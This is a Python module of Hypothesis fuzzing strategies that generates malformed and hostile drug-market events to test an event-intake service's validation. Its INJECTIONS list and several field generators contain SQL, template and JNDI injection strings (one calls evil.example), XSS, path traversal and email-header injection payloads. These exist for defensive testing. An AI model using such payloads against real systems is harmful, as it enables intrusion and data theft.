"""Shared hypothesis strategies for the bad-input fuzz: hostile strings, wrong types, market events and their
mutations. Every event is JSON-shaped (what EventBridge hands the intake Lambda after `json.loads`)."""

from __future__ import annotations

import copy
import json
import os
import unicodedata
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any

from coach.models import EVENT_TYPES
from hypothesis import settings
from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parents[2]
CANONICAL: dict = json.loads((ROOT / "coach_local/events/claritin_otc.json").read_text(encoding="utf-8"))
CLARITIN_NDC = "11523716001"
OTHER_NDC = "00093505601"
HUGE = 100_000  # "huge" strings are at least this many characters


# --- profiles --------------------------------------------------------------------------------------------------
def profile_name() -> str:
    name = os.environ.get("HYPOTHESIS_PROFILE", "ci")
    return name if name in ("ci", "fuzz") else "ci"


def fuzz_settings(*, ci: int | None = None, fuzz: int | None = None) -> settings:
    """The active profile (registered in conftest.py), optionally with its own example counts."""
    name = profile_name()
    base = settings.get_profile(name)
    count = ci if name == "ci" else fuzz
    return settings(base, max_examples=count) if count else base


# --- hostile text ----------------------------------------------------------------------------------------------
INJECTIONS = [
    "'; DROP TABLE claims; --",
    "Robert'); DROP TABLE members;--",
    "' OR '1'='1",
    '" OR 1=1 --',
    "1; SELECT * FROM members",
    "') UNION SELECT member_id, first_name FROM members --",
    "?",
    "??",
    "$1",
    ":name",
    "%s",
    "{0}",
    "%(x)s",
    "\\",
    "\\'",
    "''",
    "'",
    "{{ 7*7 }}",
    "{{ config.items() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# c #}",
    "${7*7}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "${{<%[%'\"}}%\\.",
    "$..*",
    "$.detail.event_id",
    "$['detail']",
    "@.drug",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "&lt;&amp;&#x27;",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f",
    "file:///etc/passwd",
    "\r\nSubject: injected\r\nBcc: x@evil.example",
    "\nX-Injected: 1",
]
UNICODE = [
    "\u202eenilatarol",  # RTL override
    "\u200f\u200e",
    "مرحبا",
    "שלום",
    "💊🧪",
    "👩\u200d⚕️",
    "🏳️\u200d🌈",
    "e\u0301\u0301\u0301",
    "\x00",
    "a\x00b",
    "\ufeff",
    "\ufffd",
    "\uffff",
    "\u2028",
    "\u2029",
    "\x1b[31mred\x1b[0m",
    "\x7f",
    "\x85",
    "\ud800",
    "\udfff",
    "\ud83d",
    "a\udc00b",  # lone surrogates: JSON allows them as \uXXXX escapes
    "Ⅻ",
    "ﬁ",
    "İ",
    "ß",
    "\u0130loratadine",
    "LORATADINE",
    "  loratadine  ",
    "\tloratadine\n",
    "𝔩𝔬𝔯𝔞𝔱𝔞𝔡𝔦𝔫𝔢",
    "ｌｏｒａｔａｄｉｎｅ",
    "\u3000",
    "\xa0",
]


def _repeat(chunk: str, length: int) -> str:
    return (chunk * (length // len(chunk) + 1))[:length]


huge_text = st.builds(
    _repeat,
    st.sampled_from(["x", "A", "é", "💊", "\x00", "'", "{{x}}", "\u202e", " "])
    | st.text(min_size=1, max_size=4),
    st.integers(min_value=HUGE, max_value=3 * HUGE),
)
hostile_text = st.one_of(
    st.sampled_from(INJECTIONS),
    st.sampled_from(UNICODE),
    st.text(max_size=40),
    st.builds(
        lambda a, b, c: a + b + c,
        st.text(max_size=4),
        st.sampled_from(INJECTIONS + UNICODE),
        st.text(max_size=4),
    ),
    huge_text,
)


# the bidirectional controls a one-line field refuses (coach.addresses: a subject shown reversed)
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def one_line(text: str) -> bool:
    """Text the contract allows in a one-line field: no control characters, line breaks, bidirectional controls or
    lone surrogates."""
    return all(unicodedata.category(c) not in ("Cc", "Cs", "Zl", "Zp") and c not in BIDI for c in text)


ONE_LINE = st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp"), exclude_characters=BIDI)


def decorated(valid: str, *, hostile: bool = True) -> st.SearchStrategy[str]:
    """A valid value with something odd stuck to it. With hostile=False only what a one-line field accepts
    (SQL, template and HTML injections, RTL, emoji…), so the value stays valid and travels into the SQL."""
    pool = INJECTIONS + UNICODE if hostile else [s for s in INJECTIONS + UNICODE if one_line(s)]
    extra = st.sampled_from(pool) | st.text(
        ONE_LINE if not hostile else st.characters(), min_size=1, max_size=6
    )
    return st.one_of(
        st.builds(lambda e: valid + e, extra),
        st.builds(lambda e: e + valid, extra),
        st.builds(lambda e: valid[: len(valid) // 2] + e + valid[len(valid) // 2 :], extra),
    )


def json_scalars() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.sampled_from([0, -1, 2**31, 2**63, -(2**63), 10**30, 10**300]),
        st.floats(),
        st.sampled_from([1e308, -1e308, 5e-324, float("inf"), float("nan")]),
        hostile_text,
    )


def _nest(depth: int, leaf: Any, as_list: bool) -> Any:
    for level in range(depth):
        leaf = [leaf] if as_list else {f"k{level}": leaf}
    return leaf


json_values = st.recursive(
    json_scalars(),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(st.text(max_size=8) | hostile_text, children, max_size=4)
    ),
    max_leaves=12,
)
nested_garbage = st.one_of(
    json_values,
    st.builds(_nest, st.integers(min_value=1, max_value=300), json_scalars(), st.booleans()),
)
wrong_types = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(),
    st.lists(json_scalars(), max_size=3),
    st.dictionaries(st.text(max_size=5), json_scalars(), max_size=3),
    nested_garbage,
)


# --- dates -----------------------------------------------------------------------------------------------------
def _iso(value: date) -> str:
    return value.isoformat()


plausible_dates = st.dates(min_value=date(1950, 1, 1), max_value=date(2100, 12, 31))
bad_dates = st.one_of(
    st.dates().map(_iso),  # years 1..9999: mostly outside 1950–2100
    st.sampled_from(
        [
            "1949-12-31",
            "2101-01-01",
            "0001-01-01",
            "9999-12-31",
            "0000-00-00",
            "2003-02-30",
            "2003-13-01",
            "2003-1-1",
            "01/01/2003",
            "2003/01/01",
            "20030101",
            "2003-01-01T00:00:00Z",
            "2003-01-01T12:30:00",
            "2003-01-01 00:00:00+05:00",
            "+2003-01-01",
            "-2003-01-01",
            "10000-01-01",
            "2003-W01-1",
            "",
            " ",
            "today",
            "NaN",
            "2003-01-01'; DROP TABLE claims; --",
        ]
    ),
    st.integers(min_value=-(10**12), max_value=10**12),  # pydantic reads numbers as unix time
    st.floats(),
    hostile_text,
)


# --- NDCs ------------------------------------------------------------------------------------------------------
def _hyphenated(digits: str, shape: tuple[int, int, int]) -> str:
    """The 11-digit NDC written in one of the FDA's 10-digit hyphenated shapes (the short segment unpadded)."""
    labeler, product, package = digits[:5], digits[5:9], digits[9:]
    if shape == (4, 4, 2):
        return f"{labeler[1:]}-{product}-{package}" if labeler[0] == "0" else f"{labeler}-{product}-{package}"
    if shape == (5, 3, 2):
        return f"{labeler}-{product[1:]}-{package}" if product[0] == "0" else f"{labeler}-{product}-{package}"
    if shape == (5, 4, 1):
        return f"{labeler}-{product}-{package[1:]}" if package[0] == "0" else f"{labeler}-{product}-{package}"
    return f"{labeler}-{product}-{package}"


eleven_digits = st.text(alphabet="0123456789", min_size=11, max_size=11)
valid_ndcs = st.one_of(
    st.sampled_from([CLARITIN_NDC, OTHER_NDC, "11523-7160-01", "0093-5056-01"]),
    eleven_digits,
    st.builds(_hyphenated, eleven_digits, st.sampled_from([(5, 4, 2), (4, 4, 2), (5, 3, 2), (5, 4, 1)])),
)
bad_ndcs = st.one_of(
    st.text(alphabet="0123456789", min_size=10, max_size=10),  # ambiguous: rejected, never guessed
    st.text(alphabet="0123456789-", max_size=14),
    st.text(
        alphabet=st.characters(categories=["Nd"]), min_size=11, max_size=11
    ),  # ١١٥…, １１５…: any script's digits
    st.sampled_from(
        [
            "",
            " ",
            "1152371600l",
            "11523716001\x00",
            "１１５２３７１６００１",
            "11523-7160-01-1",
            "115237160011",
            "1-1-1",
        ]
    ),
    hostile_text,
)


# --- market events ---------------------------------------------------------------------------------------------
INGREDIENTS = ["loratadine", "Loratadine", " LORATADINE ", "simvastatin", "cetirizine", "valsartan"]
NAMES = ["Claritin", "Zocor", "Valsartan 80 mg", "Brand-X®", "Ñandú", "Zyrtec 10 mg"]


@st.composite
def valid_events(draw: st.DrawFn) -> dict:
    """Events the contract allows, varied enough to take the SQL with different parameters."""
    raw = copy.deepcopy(CANONICAL)
    detail = raw["detail"]
    detail["event_type"] = draw(st.sampled_from(EVENT_TYPES))
    detail["recall_class"] = (
        draw(st.sampled_from(["I", "II", "III"])) if detail["event_type"] == "recall" else None
    )
    drug: dict[str, Any] = {"name": draw(st.sampled_from(NAMES) | decorated("Claritin", hostile=False))}
    match_by = draw(st.sampled_from(["ndcs", "ingredient", "both"]))
    if match_by != "ndcs":
        drug["ingredient"] = draw(st.sampled_from(INGREDIENTS) | decorated("loratadine", hostile=False))
    if match_by != "ingredient":
        drug["ndcs"] = draw(st.lists(valid_ndcs, min_size=1, max_size=5))
    detail["drug"] = drug
    announced = draw(st.just(date(2002, 11, 27)) | plausible_dates)
    effective = min(date(2100, 12, 31), announced + timedelta(days=draw(st.integers(0, 400))))
    detail["announced_on"], detail["effective_date"] = _iso(announced), _iso(effective)
    detail["event_id"] = draw(
        st.just(detail["event_id"])
        | decorated("fdc-evt", hostile=False)
        | st.text(ONE_LINE, min_size=1, max_size=60).filter(str.strip)
    )
    detail["summary"] = draw(st.just(detail["summary"]) | decorated("Loratadine goes OTC.", hostile=False))
    detail["source_url"] = draw(
        st.sampled_from([None, "https://example.org/notice", "http://fda.example/x?a=1"])
    )
    detail["alternatives"] = draw(
        st.lists(st.sampled_from(INGREDIENTS) | decorated("cetirizine", hostile=False), max_size=3)
    )
    if draw(st.booleans()):
        raw.update(
            {
                "version": "0",
                "id": "b2a1-…",
                "account": "123456789012",
                "time": "2002-11-27T00:00:00Z",
                "region": "us-east-1",
                "resources": [],
            }
        )
    return raw


@dataclass
class Mutation:
    op: str  # "set", "delete" or "extra"
    path: tuple[str | int, ...]
    value: Any = None

    def names(self) -> set[str]:
        """What a reason may call the field this mutation broke (its own name, or the rule it broke)."""
        keys = [p for p in self.path if isinstance(p, str)]
        if self.op == "extra":  # an unexpected field is named under its parent (the key itself may be huge)
            return {".".join(keys[:-1]) or "(event)"}
        leaf = keys[-1] if keys else "(event)"
        related = {
            "event_type": {"recall_class"},
            "recall_class": {"event_type"},
            "ingredient": {"drug"},
            "ndcs": {"drug"},
            "drug": {"ingredient", "ndcs"},
            "detail-type": {"detail_type"},
        }.get(leaf, set())
        return {leaf} | related


@dataclass
class Sample:
    raw: Any
    mutations: list[Mutation] = field(default_factory=list)


def _paths(raw: dict) -> list[tuple[str | int, ...]]:
    paths: list[tuple[str | int, ...]] = [("source",), ("detail-type",), ("detail",)]
    detail = raw.get("detail")
    if isinstance(detail, dict):
        paths += [("detail", k) for k in detail]
        drug = detail.get("drug")
        if isinstance(drug, dict):
            paths += [("detail", "drug", k) for k in drug]
            if isinstance(drug.get("ndcs"), list):
                paths += [("detail", "drug", "ndcs", i) for i in range(len(drug["ndcs"]))]
        if isinstance(detail.get("alternatives"), list):
            paths += [("detail", "alternatives", i) for i in range(len(detail["alternatives"]))]
    return paths


def _values_for(path: tuple[str | int, ...]) -> st.SearchStrategy[Any]:
    leaf = path[-1] if isinstance(path[-1], str) else path[-2]
    specific: dict[Any, st.SearchStrategy[Any]] = {
        "effective_date": bad_dates | plausible_dates.map(_iso),
        "announced_on": bad_dates | plausible_dates.map(_iso),
        "ndcs": (
            st.lists(valid_ndcs | bad_ndcs, max_size=4)
            if isinstance(path[-1], str)
            else valid_ndcs | bad_ndcs
        ),
        "event_type": st.sampled_from([*EVENT_TYPES, "price_hike", "OTC_SWITCH", "otc-switch", ""])
        | hostile_text,
        "recall_class": st.sampled_from(["I", "II", "III", "IV", "i", "1", "", "class I"]),
        "source": st.sampled_from(["coach.market-feed ", "Coach.Market-Feed", "aws.events", ""])
        | hostile_text,
        "detail-type": st.sampled_from(["drug market event", "Drug Market Event\x00"]) | hostile_text,
        "source_url": st.sampled_from(
            ["javascript:alert(1)", "https://", "ftp://x", "https://a b", "https://example.org/" + "a" * 2100]
        )
        | decorated("https://example.org/n"),
        "alternatives": st.lists(hostile_text, max_size=60),
        "drug": st.fixed_dictionaries(
            {"name": hostile_text},
            optional={"ingredient": hostile_text, "ndcs": st.lists(bad_ndcs, max_size=3)},
        ),
    }
    return st.one_of(specific.get(leaf, st.nothing()), hostile_text, wrong_types)


def _get_parent(raw: Any, path: tuple[str | int, ...]) -> Any:
    node = raw
    for part in path[:-1]:
        node = node[part]
    return node


@st.composite
def mutation(draw: st.DrawFn, raw: dict) -> Mutation:
    op = draw(st.sampled_from(["set", "set", "set", "delete", "extra"]))
    if op == "extra":
        where = draw(st.sampled_from([(), ("detail",), ("detail", "drug")]))
        key = draw(
            st.sampled_from(["id", "detail_type", "ndc", "drug_name", "__proto__", "$where", "'; DROP"])
            | hostile_text
        )
        return Mutation("extra", (*where, key), draw(nested_garbage))
    path = draw(st.sampled_from(_paths(raw)))
    if op == "delete":
        return Mutation("delete", path)
    return Mutation("set", path, draw(_values_for(path)))


def apply(raw: dict, change: Mutation) -> bool:
    """Apply one mutation in place; False when its path no longer exists (an earlier mutation removed it)."""
    try:
        parent = _get_parent(raw, change.path)
    except (KeyError, IndexError, TypeError):
        return False
    key = change.path[-1]
    if change.op == "extra":
        if not isinstance(parent, dict) or key in parent:
            return False
        parent[key] = change.value
    elif isinstance(parent, list):
        if not isinstance(key, int) or key >= len(parent):
            return False
        if change.op == "delete":
            del parent[key]
        else:
            parent[key] = change.value
    elif isinstance(parent, dict) and key in parent:
        if change.op == "delete":
            del parent[key]
        else:
            parent[key] = change.value
    else:
        return False
    return True


@st.composite
def events(draw: st.DrawFn) -> Sample:
    """Valid events, mutated ones (one or a few changes), and garbage that is not an event at all."""
    kind = draw(st.sampled_from(["valid", "mutated", "mutated", "mutated", "multi", "garbage"]))
    if kind == "garbage":
        return Sample(draw(nested_garbage | st.dictionaries(hostile_text, json_values, max_size=5)))
    raw = draw(valid_events())
    changes: list[Mutation] = []
    for _ in range({"valid": 0, "mutated": 1, "multi": 3}[kind]):
        change = draw(mutation(raw))
        if apply(raw, change):
            changes.append(change)
    return Sample(raw, changes)
